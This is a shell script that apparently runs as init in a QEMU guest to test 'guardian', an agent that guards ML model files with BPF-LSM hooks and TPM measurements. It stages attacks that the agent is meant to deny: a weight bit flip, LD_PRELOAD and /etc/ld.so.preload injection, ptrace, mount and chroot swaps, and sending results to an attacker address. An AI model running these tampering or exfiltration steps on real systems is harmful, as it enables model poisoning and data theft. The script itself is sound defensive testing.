#!/bin/sh
# Guest init for the guardian boot test (qemu/run-scenarios.sh) and the
# demo (./demo.sh). Runs as PID 1 under busybox sh in the arm64 guest.
#
# It brings up the kernel interfaces guardian needs, starts `guardian run`
# in enforce mode protecting /opt/models, plays the attacker and the
# legitimate updater, and reports one line per scenario:
#   GUARDIAN-SCENARIO <name> PASS|FAIL <details>
# which qemu/check-scenarios.sh reads from the serial console. Lines that
# start with "demo:" narrate for humans.
#
# Kernel command line switches:
#   guardian.break=1  add a scenario that expects the tamper to SUCCEED, to
#                     prove that the harness fails on a broken scenario.
#   guardian.fleet=HOST:PORT
#                     report to the fleet's NATS there (qemu's user-mode
#                     network: the host is 10.0.2.2): a [report] section is
#                     added to the agent's config before any guardian command.

export PATH=/usr/sbin:/usr/bin:/sbin:/bin

mount -t proc proc /proc
mount -t sysfs sysfs /sys
mount -t devtmpfs devtmpfs /dev 2>/dev/null
mount -t securityfs securityfs /sys/kernel/security
mount -t tracefs tracefs /sys/kernel/tracing
mount -t bpf bpf /sys/fs/bpf
mount -t cgroup2 cgroup2 /sys/fs/cgroup
mount -t tmpfs tmpfs /run
mkdir -p /run/guardian

# qemu's user-mode network (run-scenarios.sh's fleet lab listens on the
# host, reached at 10.0.2.2). Without a NIC the agent must still run: the
# reporter keeps its records in the spool and retries.
if ip link set eth0 up 2>/dev/null; then
    ip addr add 10.0.2.15/24 dev eth0
    ip route add default via 10.0.2.2
fi
fleet="$(sed -n 's/.*guardian\.fleet=\([^ ]*\).*/\1/p' /proc/cmdline)"
if [ -n "$fleet" ]; then
    cat >>/etc/guardian/guardian.toml <<FLEET

[report]
servers = ["nats://$fleet"]
device_id = "qemu-arm64"
spool_dir = "/run/guardian/spool"
fsync = "always"
status_interval_secs = 1
FLEET
fi

MODEL=/opt/models/model.onnx
UPDATER=/opt/updater/busybox
EVENTS=/run/guardian/events.jsonl

say() { echo "demo: $*"; }
report() { echo "GUARDIAN-SCENARIO $1 $2 $3"; }
check() {
    # check NAME CONDITION-EXIT-STATUS DETAILS
    if [ "$2" -eq 0 ]; then report "$1" PASS "$3"; else report "$1" FAIL "$3"; fi
}
digest() { sha256sum "$1" | cut -d' ' -f1; }
# The JSON event(s) for one pid, compact, from guardian's event log.
events_of() { grep "\"pid\":$1," "$EVENTS" 2>/dev/null; }
wait_event() {
    # wait_event PID VERDICT [EVENT]: up to 10 s for guardian to print it.
    n=0
    while [ "$n" -lt 100 ]; do
        events_of "$1" | grep "\"verdict\":\"$2\"" | grep -q "\"event\":\"${3:-}" && return 0
        sleep 0.1
        n=$((n + 1))
    done
    return 1
}
# attack NAME EVENT CMD...: run CMD as a fresh process (its pid is the one
# the kernel reports); it must fail with EPERM, guardian must print a "deny"
# EVENT for that pid, and the model must be byte for byte what it was.
# spawn CMD...: run CMD as a fresh process, its output in /tmp/out; sets
# rc (its exit status) and pid, and narrates.
spawn() {
    sh -c 'echo $$ > /tmp/pid; exec "$@"' spawn "$@" >/tmp/out 2>&1
    rc=$?
    pid="$(cat /tmp/pid)"
    say "  $name: $* -> exit $rc: $(head -n 1 /tmp/out)"
}
attack() {
    name=$1 ev=$2
    shift 2
    spawn "$@"
    [ "$rc" -ne 0 ] && grep -q "Operation not permitted" /tmp/out && [ "$(digest "$MODEL")" = "$after" ]
    check "$name" $? "pid $pid exit $rc: $(head -n 1 /tmp/out)"
    wait_event "$pid" deny "$ev"
    check "$name-event" $? "$(events_of "$pid" | grep "\"event\":\"$ev" | head -n 1)"
    say "  guardian: $(events_of "$pid" | head -n 1)"
}
start_agent() {
    # start_agent [CONFIG STATUS LOG]: guardian run, then wait (up to 60 s)
    # for its first status. The descriptors opened on the model before the
    # agent started (7, 8, 9) are the attacker's, not the agent's.
    cfg=${1:-/etc/guardian/guardian.toml} st=${2:-/run/guardian/status.json}
    rm -f "$st"
    guardian run --config "$cfg" 2>>"${3:-/run/guardian/agent.log}" 7>&- 8>&- 9>&- &
    agent=$!
    n=0
    while [ ! -s "$st" ] && [ "$n" -lt 600 ]; do
        kill -0 "$agent" 2>/dev/null || break
        sleep 0.1
        n=$((n + 1))
    done
}
finish() {
    echo "GUARDIAN-SCENARIOS-DONE"
    poweroff -f
    sleep 10
}

# --- the machine -----------------------------------------------------------
n=0
while [ ! -c /dev/tpmrm0 ] && [ "$n" -lt 50 ]; do sleep 0.1; n=$((n + 1)); done
test -c /dev/tpmrm0
check tpm-device $? "/dev/tpmrm0 $( [ -c /dev/tpmrm0 ] && echo present || echo MISSING)"

# The second boot of the boot test: the same TPM powered on again, to answer
# the host verifier's enrolment challenge (step 3), and nothing else.
if grep -q 'guardian.phase=activate' /proc/cmdline; then
    sed -n 's/.*guardian\.challenge=\([^ ]*\).*/\1/p' /proc/cmdline | base64 -d >/tmp/challenge.json
    guardian enrol activate -c /etc/guardian/guardian.toml --challenge /tmp/challenge.json \
        -o /tmp/response.json 2>/tmp/enrol.err
    check enrol-activate $? "$(tail -n 1 /tmp/enrol.err | cut -c1-160)"
    echo "GUARDIAN-ENROL-RESPONSE-BEGIN"
    cat /tmp/response.json
    echo "GUARDIAN-ENROL-RESPONSE-END"
    finish
fi

# The fleet's boot (run-scenarios.sh boots it first, while the fleet lab
# listens on the host): the board measures its model, starts guardian
# reporting to the fleet, and waits while the fleet enrols it over the
# link and attests it; then one tamper attempt, denied, which the fleet's
# next verdict carries and its alerts show. Nothing else.
if grep -q 'guardian.phase=fleet' /proc/cmdline; then
    # On this boot the board follows the fleet's policy sets for group
    # "qemu" (run-scenarios.sh publishes one while it runs).
    sed -i '/^\[policy\]$/a group = "qemu"' /etc/guardian/guardian.toml
    answered() {
        a="$(sed -n 's/.*"answered": *\([0-9]*\).*/\1/p' /run/guardian/status.json 2>/dev/null | head -n 1)"
        echo "${a:-0}"
    }
    wait_answered() {
        # wait_answered N SECONDS: for the agent to have answered N of the
        # fleet's questions.
        n=0
        while [ "$(answered)" -lt "$1" ] && [ "$n" -lt "$(($2 * 10))" ]; do
            sleep 0.1
            n=$((n + 1))
        done
        [ "$(answered)" -ge "$1" ]
    }
    say "the fleet: measuring the model, then starting guardian, which reports to the fleet at $fleet"
    guardian measure --config /etc/guardian/guardian.toml >/tmp/measure.out 2>/tmp/measure.err
    check fleet-boot-measure $? "$(tail -n 1 /tmp/measure.err)"
    # Everything the config protects exists, as in the scenarios' boot.
    mkdir -p /srv
    mount -t tmpfs srv /srv
    mkdir -p /srv/models
    echo "extra weights" >/srv/models/extra.bin
    start_agent
    [ -s /run/guardian/status.json ] || sed 's/^/demo: agent: /' /run/guardian/agent.log | tail -n 5
    # The enrolment request, the credential's activation, two quotes.
    wait_answered 4 150
    check fleet-enrolled-and-quoted $? "$(answered) question(s) of the fleet answered (enrolment request, activation, quotes)"
    say "  the fleet enrolled this board over its link (its TPM proved it holds the AK) and has"
    say "  asked for $(($(answered) - 2)) fresh quote(s); it shows the board TRUSTED"
    say "the attacker flips one bit of the protected model"
    printf '\277' >/tmp/bit
    before="$(digest "$MODEL")"
    dd if=/tmp/bit of="$MODEL" bs=1 seek=1000 count=1 conv=notrunc >/tmp/out 2>&1
    rc=$?
    [ "$rc" -ne 0 ] && [ "$(digest "$MODEL")" = "$before" ]
    check fleet-tamper-denied $? "exit $rc: $(head -n 1 /tmp/out)"
    say "  -> exit $rc: $(head -n 1 /tmp/out)"
    # The fleet's next quote carries the tamper record.
    a="$(answered)"
    wait_answered $((a + 2)) 60
    check fleet-quoted-after-tamper $? "$(answered) question(s) answered"
    say "  the fleet's next verdicts carry the attempt, and its alerts name it"
    # --- a policy set published on the host, taken without a restart ---
    pushed() { tr -d ' \n' </run/guardian/status.json 2>/dev/null | grep -o "\"policy_sets\":{.*"; }
    wait_pushed() {
        # wait_pushed PATTERN SECONDS: for the agent's pushed-set status to
        # match PATTERN (grep -E, on the status with its spaces removed).
        n=0
        until pushed | grep -qE "$1"; do
            [ "$n" -ge "$(($2 * 10))" ] && return 1
            sleep 0.1
            n=$((n + 1))
        done
    }
    after="$(digest "$MODEL")"
    say "policy push: this board follows group qemu's set; /usr/sbin/model-updater is not an allowed writer yet"
    attack fleet-policy-before-push file_write_open /usr/sbin/model-updater append "$MODEL" "weights v3"
    say "  the fleet publishes set version 2 for group qemu (the vendor's model-writer policy)"
    echo "GUARDIAN-PUSH-READY"
    wait_pushed '"put_in_force":1' 180
    check fleet-policy-set-applied $? "$(pushed | cut -c1-300)"
    grep -E '"kind":"policy_set"' /run/guardian/measurements.log | grep -q '"version":2'
    check fleet-policy-set-in-evidence $? "$(grep '"kind":"policy_set"' /run/guardian/measurements.log | tail -n 1 | cut -c1-200)"
    sh -c 'echo $$ > /tmp/pid; exec /usr/sbin/model-updater append "$1" "weights v3"' x "$MODEL" >/tmp/err 2>&1
    rc=$?
    [ "$rc" -eq 0 ] && tail -n 1 "$MODEL" | grep -q 'weights v3'
    check fleet-policy-set-takes-effect $? "model-updater appends: exit $rc $(cat /tmp/err) (pid $(cat /tmp/pid), no restart: agent pid $agent)"
    say "  set 2 in force without a restart: model-updater appends, exit $rc"
    say "the attacker replays the older set 1 onto the fleet's bucket"
    echo "GUARDIAN-PUSH-OLDER"
    wait_pushed '"older":1' 120
    r=$?
    pushed | grep -qE '"floor":2,' && kill -0 "$agent"
    check fleet-policy-older-refused $((r + $?)) "$(pushed | grep -oE '"last_refusal":"[^"]*"' | cut -c1-200)"
    say "  refused: $(pushed | grep -oE '"last_refusal":"[^"]*"' | cut -c17-200)"
    # The fleet's next verdicts carry set 2.
    a="$(answered)"
    wait_answered $((a + 2)) 60
    check fleet-quoted-after-push $? "$(answered) question(s) answered"
    finish
fi

lsm="$(cat /sys/kernel/security/lsm 2>/dev/null)"
case ",$lsm," in *,bpf,*) r=0 ;; *) r=1 ;; esac
check bpf-lsm-active $r "active LSMs: ${lsm:-unreadable}"

# --- the workload, and why it needs guarding ----------------------------------
# A real classifier (examples/inference) served by a real service. First a
# control run with guardian not running, on a copy of the model: flipping
# one documented bit (model/attack.json) changes a prediction, silently.
INFER=/usr/bin/inference-service
CLASSIFIER=/opt/models/classifier.onnx
expected="$(tr '\n' ' ' </opt/inference/expected.txt)"
predict() {
    # predict MODEL [ARGS...]: the classes the service answers, in order.
    m=$1
    shift
    "$INFER" --model "$m" "$@" </opt/inference/inputs.jsonl 2>/tmp/infer.err \
        | sed -n 's/.*"class":\([0-9]*\).*/\1/p' | tr '\n' ' '
}
printf '\277' >/tmp/bit
say "control run (no guardian): the inference service on a copy of the model"
cp "$CLASSIFIER" /tmp/control.onnx
p0="$(predict /tmp/control.onnx)"
dd if=/tmp/bit of=/tmp/control.onnx bs=1 seek=5499 count=1 conv=notrunc 2>/dev/null
p1="$(predict /tmp/control.onnx)"
say "  expected classes:            $expected"
say "  predictions:                 $p0"
say "  after flipping bit 7 of byte 5499 (one weight changes sign): $p1"
[ "$p0" = "$expected" ] && [ -n "$p1" ] && [ "$p1" != "$expected" ]
check control-flip-changes-predictions $? "expected [$expected] before [$p0] after [$p1]"

# --- measured boot of the model ----------------------------------------------
say "measuring the models into the TPM (guardian measure, the boot step)"
guardian measure --config /etc/guardian/guardian.toml >/tmp/measure.out 2>/tmp/measure.err
rc=$?
sed 's/^/demo:   /' /tmp/measure.err
check measure-boot $rc "exit $rc: $(tail -n 1 /tmp/measure.err)"
# As systemd orders it (guardian-measure.service before the service): the
# inference service starts only on a successful measurement.
measure_rc=$rc
# The PCR as the kernel's TPM driver reads it (sysfs), against guardian's
# replay of its measurement log.
pcr="$(tr 'A-F' 'a-f' </sys/class/tpm/tpm0/pcr-sha256/14 2>/dev/null)"
replay="$(guardian log replay --config /etc/guardian/guardian.toml 2>&1)"
rc=$?
say "  PCR 14 (sysfs): $pcr"
echo "$replay" | sed 's/^/demo:   /'
[ "$rc" -eq 0 ] && [ -n "$pcr" ] && echo "$replay" | grep -q "replayed.*$pcr"
check pcr-equals-replay $? "sysfs pcr-sha256/14 = $pcr"

# --- evidence for a remote verifier --------------------------------------------
# The host passes a fresh nonce on the kernel command line and verifies what
# comes back with its own (x86_64) guardian: the aarch64 agent and the
# verifier must interoperate.
# --- enrolment, step 1: the request for the host's verifier -----------------
# (Steps 2 and 4 are the host's, between this boot and the next; step 3 is
# the second boot's, below.)
C=/etc/guardian/guardian.toml
guardian enrol request -c $C -o /tmp/request.json 2>/tmp/enrol.err
rc=$?
sed 's/^/demo:   /' /tmp/enrol.err
check enrol-request $rc "$(tail -n 1 /tmp/enrol.err | cut -c1-120)"
echo "GUARDIAN-ENROL-REQUEST-BEGIN"
cat /tmp/request.json
echo "GUARDIAN-ENROL-REQUEST-END"

nonce="$(sed -n 's/.*guardian\.nonce=\([0-9a-f]*\).*/\1/p' /proc/cmdline)"
if [ -n "$nonce" ]; then
    say "quoting PCR 14 for the verifier's nonce $nonce"
    guardian quote --config /etc/guardian/guardian.toml --nonce "$nonce" \
        -o /tmp/evidence.json --ak-out /tmp/ak.pem 2>/tmp/quote.err
    rc=$?
    check quote-evidence $rc "exit $rc, $(wc -c </tmp/evidence.json 2>/dev/null || echo 0) bytes $(tail -n 1 /tmp/quote.err)"
    echo "GUARDIAN-EVIDENCE-BEGIN"
    cat /tmp/evidence.json
    echo
    echo "GUARDIAN-EVIDENCE-END"
    echo "GUARDIAN-AK-BEGIN"
    cat /tmp/ak.pem
    echo "GUARDIAN-AK-END"
fi

# --- guardian ----------------------------------------------------------------
# An attacker who got in before guardian started holds descriptors on the
# model: one for appending (7), one for reading and writing (8). No open
# will be checked again for them.
exec 7>>"$MODEL" 8<>"$MODEL"
ip link set lo up 2>/dev/null
# A model on a filesystem of its own, mounted before guardian starts: the
# mount it lies on is part of its path.
mkdir -p /srv /mnt
mount -t tmpfs srv /srv
mkdir -p /srv/models
echo "extra weights" >/srv/models/extra.bin
# ... and one maps the model shared and writable, and waits.
guardian-attack mmap-hold "$MODEL" 600 >/dev/null 2>&1 &
holder=$!
sleep 0.2
say "starting guardian: protecting /opt/models, allowed writer $UPDATER"
start_agent
sed 's/^/demo: agent: /' /run/guardian/agent.log
if [ ! -s /run/guardian/status.json ]; then
    report guardian-enforce FAIL "guardian did not start: $(tail -n 1 /run/guardian/agent.log)"
    finish
fi
grep -q '"mode": "enforce"' /run/guardian/status.json
check guardian-enforce $? "$(guardian status | sed -n 's/^mode: //p')"
# No program on a system call: the environment of an exec is read by
# fentry on the execve wrappers, not by a syscall tracepoint (which would
# put every system call of every task on the slow path).
grep -q 'fentry/__arm64_sys_execve' /run/guardian/status.json \
    && ! grep -q 'sys_enter\|sys_exit' /run/guardian/status.json
check no-syscall-tracepoint $? "$(grep -o '"[a-z_]*/[a-z0-9_/]*execve[a-z]*"' /run/guardian/status.json | tr '\n' ' ')"

# The writers from before the guard are found at start, reported, and in
# the evidence (no hook judged their opens or maps).
pre="$(grep '"event":"preexisting_writer"' "$EVENTS")"
echo "$pre" | grep '"pid":1,' | grep -q 'open for writing' \
    && echo "$pre" | grep "\"pid\":$holder," | grep -q 'shared writable mapping' \
    && grep -qE '"preexisting_writers": [2-9]' /run/guardian/status.json
check preexisting-writers $? "$(echo "$pre" | grep -o '"pid":[0-9]*,.*"name":"[^"]*"' | sed 's/"tid.*"file"/ "file"/' | tr '\n' ';' | cut -c1-300)"
kill "$holder" 2>/dev/null
before="$(digest "$MODEL")"
say "model $MODEL sha256 $before"

# --- the guarded run -----------------------------------------------------------
cp /bin/busybox /tmp/evil.so
if [ "$measure_rc" -eq 0 ]; then
    say "guarded run: measurement passed, the inference service starts"
    pg="$(predict "$CLASSIFIER")"
else
    say "guarded run: measurement FAILED, the inference service is not started"
    pg="not started"
fi
say "  predictions: $pg"
[ -s /tmp/infer.err ] && say "  service stderr: $(head -c 400 /tmp/infer.err)" \
    && say "  events: $(grep -v '"verdict":"allow"' "$EVENTS" | tail -n 2)"
[ "$pg" = "$expected" ]
check guarded-predictions $? "expected [$expected] got [$pg]"
cdigest="$(digest "$CLASSIFIER")"
say "the attacker flips the same bit in the protected model"
sh -c "echo \$\$ > /tmp/pid; exec dd if=/tmp/bit of=$CLASSIFIER bs=1 seek=5499 count=1 conv=notrunc" 2>/tmp/err
rc=$?
pid="$(cat /tmp/pid)"
say "  -> exit status $rc: $(head -n 1 /tmp/err)"
[ "$rc" -ne 0 ] && grep -q "Operation not permitted" /tmp/err && [ "$(digest "$CLASSIFIER")" = "$cdigest" ]
check flip-denied $? "pid $pid exit $rc, classifier sha256 $(digest "$CLASSIFIER" | cut -c1-16)..."
wait_event "$pid" deny file_write_open
check flip-denied-event $? "$(events_of "$pid" | head -n 1)"
say "  guardian: $(events_of "$pid" | head -n 1)"
pa="$(predict "$CLASSIFIER")"
say "  predictions after the attempt: $pa"
[ "$pa" = "$expected" ]
check predictions-unchanged $? "expected [$expected] got [$pa]"
# The gate itself, on a board whose model was changed before boot: a copy
# with the flipped bit, measured against its golden digest (log only, no
# TPM, so the real PCR is untouched) must not let the service start.
mkdir -p /tmp/gate
cp "$CLASSIFIER" /tmp/gate/classifier.onnx
dd if=/tmp/bit of=/tmp/gate/classifier.onnx bs=1 seek=5499 count=1 conv=notrunc 2>/dev/null
cat >/tmp/gate/manifest.toml <<GATE
version = 1
pcr = 14

[[model]]
path = "/tmp/gate/classifier.onnx"
sha256 = "$cdigest"
size = $(wc -c <"$CLASSIFIER")
name = "classifier"
GATE
cat >/tmp/gate/guardian.toml <<GATE
[guard]
protected = ["/tmp/gate"]
[measure]
manifest = "/tmp/gate/manifest.toml"
allow_unsigned = true
log = "/tmp/gate/measurements.log"
GATE
guardian measure --config /tmp/gate/guardian.toml --no-tpm >/tmp/gate/out 2>/tmp/gate/err
gate_rc=$?
if [ "$gate_rc" -eq 0 ]; then gate="started"; else gate="not started"; fi
say "  a board whose model was changed before boot: guardian measure exit $gate_rc, so the service is $gate"
[ "$gate_rc" -eq 3 ] && [ "$gate" = "not started" ] && grep -q "model_mismatch" /tmp/gate/out
check measure-gate-blocks-service $? "exit $gate_rc: $(grep -o '"event":"model_mismatch"[^}]*' /tmp/gate/out | head -n 1 | cut -c1-120)"
say "the attacker restarts the service with LD_PRELOAD"
after="$(digest "$MODEL")"
attack service-preload-restart exec_preload env LD_PRELOAD=/tmp/evil.so "$INFER" --model "$CLASSIFIER"
say "the service is told to send its results to the attacker (127.0.0.3:9999)"
sh -c 'echo $$ > /tmp/pid; exec "$@"' x "$INFER" --model "$CLASSIFIER" --report-to 127.0.0.3:9999 \
    </opt/inference/inputs.jsonl >/tmp/out 2>/tmp/err
rc=$?
pid="$(cat /tmp/pid)"
say "  -> $(grep 'report' /tmp/err | head -n 1)"
pe="$(sed -n 's/.*"class":\([0-9]*\).*/\1/p' /tmp/out | tr '\n' ' ')"
[ "$rc" -eq 0 ] && grep -q "cannot report to 127.0.0.3:9999: Operation not permitted" /tmp/err && [ "$pe" = "$expected" ]
check service-exfiltration $? "exit $rc; predictions [$pe]; $(grep report /tmp/err | head -n 1)"
wait_event "$pid" deny connect
check service-exfiltration-event $? "$(events_of "$pid" | head -n 1)"
say "  guardian: $(events_of "$pid" | head -n 1)"

# --- attack 1: append to the model ----------------------------------------------
say "attacker (pid below) appends to the model: echo tamper >> $MODEL"
sh -c "echo \$\$ > /tmp/pid; echo tamper >> $MODEL" 2>/tmp/err
rc=$?
pid="$(cat /tmp/pid)"
say "  -> exit status $rc: $(cat /tmp/err)"
[ "$rc" -ne 0 ] && grep -q "Operation not permitted" /tmp/err && [ "$(digest "$MODEL")" = "$before" ]
check deny-append $? "pid $pid exit $rc, model sha256 $(digest "$MODEL" | cut -c1-16)..."
wait_event "$pid" deny
check deny-append-event $? "$(events_of "$pid" | head -n 1)"
say "  guardian: $(events_of "$pid" | head -n 1)"

# --- attack 2: truncate it ------------------------------------------------------
say "attacker truncates the model: : > $MODEL"
sh -c "echo \$\$ > /tmp/pid; : > $MODEL" 2>/tmp/err
rc=$?
pid="$(cat /tmp/pid)"
say "  -> exit status $rc: $(cat /tmp/err)"
[ "$rc" -ne 0 ] && [ "$(digest "$MODEL")" = "$before" ]
check deny-truncate $? "pid $pid exit $rc, size $(wc -c <"$MODEL")"
wait_event "$pid" deny
check deny-truncate-event $? "$(events_of "$pid" | head -n 1)"
say "  guardian: $(events_of "$pid" | head -n 1)"

# --- attack 3: pretend to be the updater ---------------------------------------
# /bin/busybox and the updater are byte-identical and both run with comm
# "busybox"; only the executable's inode tells them apart.
say "impostor with the updater's name and comm: /bin/busybox sh -c 'echo evil >> model'"
/bin/busybox sh -c "echo \$\$ > /tmp/pid; echo evil >> $MODEL" 2>/tmp/err
rc=$?
pid="$(cat /tmp/pid)"
say "  -> exit status $rc: $(cat /tmp/err)"
[ "$rc" -ne 0 ] && [ "$(digest "$MODEL")" = "$before" ] && wait_event "$pid" deny
check deny-impostor $? "pid $pid exit $rc; $(events_of "$pid" | head -n 1)"
say "  guardian: $(events_of "$pid" | head -n 1)"

# --- the legitimate updater -------------------------------------------------------
say "the allowed updater writes a new model version"
"$UPDATER" sh -c "echo \$\$ > /tmp/pid; echo 'weights v2' >> $MODEL" 2>/tmp/err
rc=$?
pid="$(cat /tmp/pid)"
after="$(digest "$MODEL")"
say "  -> exit status $rc, model sha256 now $after"
[ "$rc" -eq 0 ] && [ "$after" != "$before" ] && tail -n 1 "$MODEL" | grep -q 'weights v2'
check allow-updater $? "pid $pid exit $rc"
wait_event "$pid" allow
check allow-updater-event $? "$(events_of "$pid" | head -n 1)"
say "  guardian: $(events_of "$pid" | head -n 1)"

# --- reads are never in the way -------------------------------------------------
cat "$MODEL" >/dev/null
check read-allowed $? "a plain read of the model still works"

# --- nothing silent: the counters match what happened ----------------------
# Four denials (the bit flip, then three), one allowed write, nothing dropped.
n=0
until grep -q '"denied": 4,' /run/guardian/status.json && grep -q '"allowed": 1,' /run/guardian/status.json; do
    [ "$n" -ge 50 ] && break
    sleep 0.1
    n=$((n + 1))
done
grep -q '"denied": 4,' /run/guardian/status.json && grep -q '"allowed": 1,' /run/guardian/status.json \
    && grep -qE '"ringbuf_drops": 0,?$' /run/guardian/status.json
check status-counters $? "$(grep -E '"(denied|allowed|ringbuf_drops|events_written)"' /run/guardian/status.json | tr -d ' \n')"

# --- the evidence now shows the attempts ----------------------------------------
# The daemon extended tamper records (and re-measured the model the updater
# changed); a second quote for a second nonce carries them to the verifier.
nonce2="$(sed -n 's/.*guardian\.nonce2=\([0-9a-f]*\).*/\1/p' /proc/cmdline)"
if [ -n "$nonce2" ]; then
    n=0
    until grep -qE '"models_remeasured": [1-9]' /run/guardian/status.json; do
        [ "$n" -ge 50 ] && break
        sleep 0.1
        n=$((n + 1))
    done
    grep -E '"(tamper_records|tamper_rate_limited|models_remeasured)"' /run/guardian/status.json | tr -d ' ,' | sed 's/^/demo:   /'
    guardian quote --config /etc/guardian/guardian.toml --nonce "$nonce2" -o /tmp/evidence2.json 2>/tmp/quote2.err
    rc=$?
    grep -q '"kind": "tamper"' /tmp/evidence2.json
    tamper=$?
    [ "$rc" -eq 0 ] && [ "$tamper" -eq 0 ]
    check quote-after-tamper $? "exit $rc; tamper record in the evidence: $([ "$tamper" -eq 0 ] && echo yes || echo NO)"
    echo "GUARDIAN-EVIDENCE2-BEGIN"
    cat /tmp/evidence2.json
    echo
    echo "GUARDIAN-EVIDENCE2-END"
fi

# --- every other way to change the model (all denied in the kernel) --------
after="$(digest "$MODEL")"
say "the attacker tries every other way to change the model"
attack preopened-fd-write file_write guardian-attack write-fd 7
attack mmap-shared-write file_mmap_write guardian-attack mmap-write-fd 8
attack ftruncate-fd file_truncate guardian-attack ftruncate-fd 8
attack truncate-path file_truncate guardian-attack truncate "$MODEL"
attack chmod file_setattr guardian-attack chmod "$MODEL" 666
echo "evil weights" >/tmp/evil.onnx
attack rename-over file_rename guardian-attack rename /tmp/evil.onnx "$MODEL"
attack rename-away file_rename guardian-attack rename "$MODEL" /tmp/stolen.onnx
attack unlink file_unlink guardian-attack unlink "$MODEL"
attack hardlink file_link guardian-attack link "$MODEL" /opt/models/alias.onnx
[ ! -e /opt/models/alias.onnx ] && [ ! -e /tmp/stolen.onnx ] && [ -f "$MODEL" ]
check names-unchanged $? "no alias, nothing moved away, the model is still there"

# --- the loader's preload file and the inference process -------------------
# guardian-attack stands in for the inference service here: its binary is
# the [service] exe of the guest's config.
say "the attacker goes after the inference process"
attack ld-so-preload file_create guardian-attack create /etc/ld.so.preload
[ ! -e /etc/ld.so.preload ]
check ld-so-preload-absent $? "/etc/ld.so.preload does not exist"
cp /bin/busybox /tmp/evil.so
attack ld-preload-exec exec_preload env LD_PRELOAD=/tmp/evil.so guardian-attack sleep 0
attack exec-unlisted exec guardian-attack exec /bin/busybox true
attack library-load library_load guardian-attack mmap-exec /tmp/evil.so
guardian-attack sleep 60 &
victim=$!
sleep 0.2
attack ptrace-attach ptrace guardian-attack ptrace "$victim"
grep -q "\"target_pid\":$victim" "$EVENTS"
check ptrace-target $? "the event names the traced service pid $victim"
attack connect-denied connect guardian-attack connect 127.0.0.3 9999
# The allowed destination: the kernel lets the connect through (nobody
# listens there, so it is refused by the network stack, not by guardian).
guardian-attack connect 127.0.0.2 8080 >/tmp/out 2>&1
say "  connect-allowed: 127.0.0.2:8080 -> $(cat /tmp/out)"
! grep -q "Operation not permitted" /tmp/out
check connect-allowed $? "$(cat /tmp/out)"
kill "$victim" 2>/dev/null

# --- guardian protects itself ---------------------------------------------------
attack self-config file_write_open sh -c ': >> /etc/guardian/guardian.toml'
pin="$(ls -d /sys/fs/bpf/guardian/*/maps/GUARDIAN_CONFIG 2>/dev/null | head -n 1)"
attack self-pins file_unlink rm -f "$pin"
[ -e "$pin" ]
check self-pins-kept $? "$pin"

# --- around the file: the names, the mounts, the guard's own objects -----------
# The service opens its model by name: every directory on the way, and what
# is mounted there, is guarded too, in every mount namespace.
after="$(digest "$MODEL")"
echo "forged weights" >/tmp/evil.onnx
say "the attacker goes after the model's path instead of the file"
attack rename-model-dir file_rename guardian-attack rename /opt/models /opt/models.old
attack rename-parent-dir file_rename guardian-attack rename /opt /opt.old
attack rmdir-model-dir file_unlink rmdir /opt/models
attack create-in-tree file_create guardian-attack create /opt/models/extra.onnx
attack mkdir-in-tree file_create mkdir /opt/models/sub
attack symlink-in-tree file_create ln -s /tmp/evil.onnx /opt/models/evil.onnx
attack mount-over-dir mount guardian-attack mount-tmpfs /opt/models
attack mount-over-parent mount guardian-attack mount-tmpfs /opt
attack bind-over-model mount guardian-attack bind /tmp/evil.onnx "$MODEL"
attack ns-mount-over-dir mount guardian-attack ns-mount-tmpfs /opt/models
attack tree-move-over-dir mount guardian-attack tree-move /tmp /opt/models
# mount(2) with MS_MOVE onto a protected directory: the destination is a
# resolved path (sb_mount's mount point), refused like any mount there.
attack ms-move-over-dir mount guardian-attack ns-ms-move-over /opt/models
# pivot_root(2) into a forged root (its /opt/models/model.onnx is the
# attacker's): every protected path lies below the root it moves away.
attack pivot-root mount guardian-attack pivot-root /tmp/fakeroot
events_of "$pid" | grep '"event":"mount"' | grep '"hook":"lsm/sb_pivotroot"' | grep -q '"file":"/"'
check pivot-root-names-root $? "$(events_of "$pid" | head -n 1 | cut -c1-300)"
# What systemd's sandboxing does: a recursive bind of / pivoted onto
# itself changes no name, and guardian lets it through. (This guest runs
# from its initramfs, whose root cannot be pivoted: the kernel itself
# answers EINVAL after the hook; what matters is that guardian does not
# refuse it.)
spawn guardian-attack ns-pivot-self /tmp/selfroot
! grep -q "Operation not permitted" /tmp/out && ! events_of "$pid" | grep -q '"event":"mount"'
check pivot-self-allowed $? "exit $rc: $(cat /tmp/out) $(events_of "$pid" | head -n 1 | cut -c1-200)"
attack umount-under-model mount guardian-attack umount /srv
attack umount-lazy-under-model mount guardian-attack umount /srv lazy
# What systemd's ProtectSystem= does in a service's namespace: a directory
# bound onto itself changes no name, and is let through.
spawn guardian-attack ns-self-bind /opt
[ "$rc" -eq 0 ]
check self-bind-allowed $? "$(cat /tmp/out) $(events_of "$pid" | head -n 1 | cut -c1-300)"
[ "$(digest "$MODEL")" = "$after" ] && [ -f /srv/models/extra.bin ] \
    && [ "$(ls /opt/models | tr '\n' ' ')" = "classifier.onnx model.onnx " ]
check path-unchanged $? "/opt/models holds: $(ls /opt/models | tr '\n' ' ')"
pp="$(predict "$CLASSIFIER")"
[ "$pp" = "$expected" ]
check predictions-after-path-attacks $? "expected [$expected] got [$pp]"

# Measure at use: the service's name for its model must lead to the
# measured inode, whatever root or tree it is reached through.
say "the attacker serves the service a forged model at the model's own path: a chroot"
mkdir -p /tmp/jail/opt/models /tmp/jail/usr/bin
cp /tmp/control.onnx /tmp/jail/opt/models/classifier.onnx
cp "$INFER" /tmp/jail/usr/bin/inference-service
attack chroot-model-swap open_unmeasured sh -c \
    'exec chroot /tmp/jail /usr/bin/inference-service --model /opt/models/classifier.onnx </opt/inference/inputs.jsonl'
events_of "$pid" | grep '"event":"open_unmeasured"' | grep '"reason":"other_inode"' \
    | grep -q "\"file\":\"$CLASSIFIER\""
check chroot-swap-names-model $? "$(events_of "$pid" | head -n 1 | cut -c1-320)"
# The same service binary in the real root still serves the real model.
pp="$(predict "$CLASSIFIER")"
[ "$pp" = "$expected" ]
check predictions-after-chroot $? "expected [$expected] got [$pp]"

say "a new file in the protected tree: the service may open it only once guardian has taken it in"
# The agent is held still, so the kernel alone answers; the allowed
# writer (the updater) puts the file there.
kill -STOP "$agent"
"$UPDATER" cp /tmp/control.onnx /opt/models/new.onnx
spawn "$INFER" --model /opt/models/new.onnx </opt/inference/inputs.jsonl
kill -CONT "$agent"
[ "$rc" -ne 0 ] && grep -q "Operation not permitted" /tmp/out
check unmeasured-tree-file-refused $? "pid $pid exit $rc: $(head -n 1 /tmp/out)"
